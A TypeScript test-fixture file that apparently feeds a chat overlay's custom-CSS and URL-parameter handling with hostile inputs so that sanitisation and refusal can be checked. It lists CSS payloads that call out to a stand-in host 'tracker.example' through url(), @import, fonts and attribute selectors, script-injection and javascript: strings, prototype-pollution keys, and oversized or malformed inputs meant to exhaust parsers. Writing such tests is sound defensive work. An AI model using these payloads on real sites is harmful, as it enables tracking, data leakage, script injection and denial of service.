import { MAX_CSS } from '../../../server/look-kinds.ts'
import { RAN } from './watched.ts'

/** Custom CSS and addresses of a stranger's making. */

const EVIL = 'https://tracker.example/c'
const CALL = `${RAN}=1`

/** Sheets that the API takes. */
export const SHEETS: readonly string[] = [
  `.cc-feed{background:url(${EVIL})}`,
  `.cc-feed{background:url("//tracker.example/c")}`,
  `@import url(${EVIL}.css);`,
  `@import "${EVIL}.css" layer(x);`,
  `}@import url(${EVIL}.css);.a{`,
  `.cc-msg{background-image:image-set(url(${EVIL}) 1x)}`,
  `.cc-msg{background-image:-webkit-image-set(url(${EVIL}) 1x)}`,
  `.cc-msg{background-image:src("${EVIL}")}`,
  `.cc-msg{background:cross-fade(url(${EVIL}),url(${EVIL}),50%)}`,
  `.cc-msg{background:-webkit-cross-fade(url(${EVIL}),url(${EVIL}),50%)}`,
  `.cc-msg{background:paint(evil)}`,
  `.cc-msg{background:element(#x)}`,
  `@font-face{font-family:evil;src:url(${EVIL}.woff2)}.cc-msg{font-family:evil!important}`,
  `@font-face{font-family:evil;src:url(${EVIL}.woff2);unicode-range:U+67}*{font-family:evil!important}`,
  `@namespace evil url(${EVIL});evil|*{color:red}`,
  `.cc-feed{background:\\75rl(${EVIL})}`,
  `.cc-feed{background:u\\72 l(${EVIL})}`,
  `.cc-feed{background:ur/**/l(${EVIL})}`,
  `.cc-feed{background:url(/**/${EVIL})}`,
  `.cc-feed{list-style:url(${EVIL}) inside;cursor:url(${EVIL}),auto;border-image:url(${EVIL}) 1}`,
  `.cc-feed{-webkit-mask:url(${EVIL}#m);mask:url(${EVIL}#m);clip-path:url(${EVIL}#m);filter:url(${EVIL}#m)}`,
  `.cc-feed{shape-outside:url(${EVIL});float:left;offset-path:url(${EVIL}#p)}`,
  `.cc-msg::before{content:url(${EVIL})}`,
  `.cc-msg::before{content:"\\202e \\2066 reversed"}*{unicode-bidi:bidi-override;direction:rtl}`,
  `:root{--u:url(${EVIL})}.cc-feed{background:var(--u)}`,
  `@property --p{syntax:"<url>";inherits:true;initial-value:url(${EVIL})}.cc-feed{background:var(--p)}`,
  `.cc-msg[data-id^="twitch:p"]{background:url(${EVIL}?p)}.cc-msg[style*="1e"]{background:url(${EVIL}?1e)}`,
  `a:visited{background:url(${EVIL})}:root:visited{color:red}`,
  `@media screen{@supports(display:block){@media all{.cc-msg{background:url(${EVIL})}}}}`,
  `@layer cc.base{.cc-msg{display:none}}@layer a.b,c;@layer{*{color:red}}`,
  `@container x (width>1px){*{background:url(${EVIL})}}@scope(.cc-msg){*{background:url(${EVIL})}}`,
  `.cc-msg{background:expression(${CALL});behavior:url(${EVIL}.htc);-moz-binding:url(${EVIL}.xml)}`,
  `.cc-msg{background:url(javascript:${CALL})}`,
  `.cc-msg{background:url("data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${CALL}'><image href='${EVIL}'/></svg>")}`,
  `</style><script>${CALL}</script><style>`,
  `<!-- .a{} --> .cc-feed{background:url(${EVIL})}`,
  `.cc-feed::after{content:"";position:fixed;inset:0;z-index:2147483647;background:#f00}`,
  `@keyframes k{to{width:200vw;height:200vh;margin:-100vh;font-size:200px}}*{animation:k 1ms infinite alternate}`,
  `*{all:unset!important}html{overflow:scroll!important;zoom:20}`,
  `*{display:none!important}`,
  `html,body{width:99999px;height:99999px;transform:scale(99) rotate(3deg)}`,
  `*{will-change:transform;backdrop-filter:blur(99px);filter:blur(99px)}`,
  `.cc-msg{counter-increment:a 2147483647;content:counter(a)}`,
  `${':is('.repeat(2_000)}a`,
  `.cc-msg{color:${'calc('.repeat(2_000)}`,
  `.cc-msg{${'('.repeat(5_000)}${'['.repeat(5_000)}`,
  `${'a,'.repeat(MAX_CSS / 2 - 10)}b{color:red}`,
  `${'.a .b>'.repeat(3_000)}c{}`,
  `.cc-msg{color:red;\u0000background:url(${EVIL})\u0000}\u0000.b{}`,
  `.a{content:"\\`,
  `.a{content:"unclosed`,
  `/* never closed`,
  `.a{background:url(unclosed`,
  `\\`,
  '\ud800{color:red}',
]

/** The API refuses these, and nothing changes. */
export const REFUSED: readonly unknown[] = [
  { customCss: '.a{'.repeat(2_000) },
  { customCss: '@media all{'.repeat(1_800) },
  { customCss: '.a{url(})'.repeat(2_000) },
  { customCss: '.a{}'.repeat(16_384) },
  { customCss: `${'a,'.repeat(100_000)}b{}` },
  { customCss: 1 },
  { customCss: ['.a{}'] },
  { customCss: { toString: '.a{}' } },
  { fontSize: 1e308 },
  { fontSize: '28' },
  { fontSize: -1 },
  { theme: '__proto__' },
  { theme: 'constructor' },
  { background: `transparent;background:url(${EVIL})` },
  { textColor: 'url(x)' },
  { textColor: '#fff' },
  { hideUsers: Array.from({ length: 201 }, (_, n) => `u${n}`) },
  { hideUsers: ['x'.repeat(51)] },
  { platforms: ['<script>'] },
  { constructor: 1 },
  { toString: 1 },
  { rainbow: true },
]
/** As text, for what no object can say. */
export const UNREADABLE: readonly string[] = [
  '{"__proto__":{"fontSize":90}}',
  '{"customCss":"a","customCss":1}',
  '{"fontSize":NaN}',
]

/** Values for every parameter of an overlay's address. */
export const VALUES: readonly string[] = [
  `%3Cscript%3E${CALL}%3C/script%3E`,
  `%22%3E%3Csvg%20onload=${CALL}%3E`,
  `red;background:url(${EVIL})`,
  `javascript:${CALL}`,
  '1e308',
  '-1e308',
  'NaN',
  'Infinity',
  '0x7fffffff',
  '9'.repeat(200),
  '__proto__',
  'constructor',
  'toString,hasOwnProperty',
  '%00',
  '%E0%A4%A',
  '%',
  '%ff%fe',
  '%F0%9F%98%80',
  '%u003cscript%u003e',
  '%E2%80%AE',
  `${'a,'.repeat(60)}`,
  '',
]

/** Whole queries. */
export const QUERIES: readonly string[] = [
  '?__proto__=1&constructor=2&prototype=3&__proto__[x]=1&constructor.prototype.x=1&toString=1&valueOf=1',
  '?theme=neon&theme=clean&theme=<script>&size=12&size=96&size=x',
  '?customCss=*{display:none}&css=*{display:none}&null=1&=x&&&==',
  `?build=<script>${CALL}</script>&demo=<script>&safe=<script>`,
  '?demo=live%00&debug=__proto__&build=../../..//tracker.example/',
  `?${'x=1&'.repeat(2_500)}size=30`,
  `?hide=${'name%2C'.repeat(1_500)}`,
]
/** What no server here reads: longer than a request's head may be. */
export const LONG_QUERY = `?size=${'9'.repeat(100_000)}`
/** In the place of the key. */
export const KEYS: readonly string[] = [
  `<script>${CALL}</script>`,
  `javascript:${CALL}`,
  '%00%E0%A4%A',
  '__proto__',
  'x'.repeat(100_000),
]
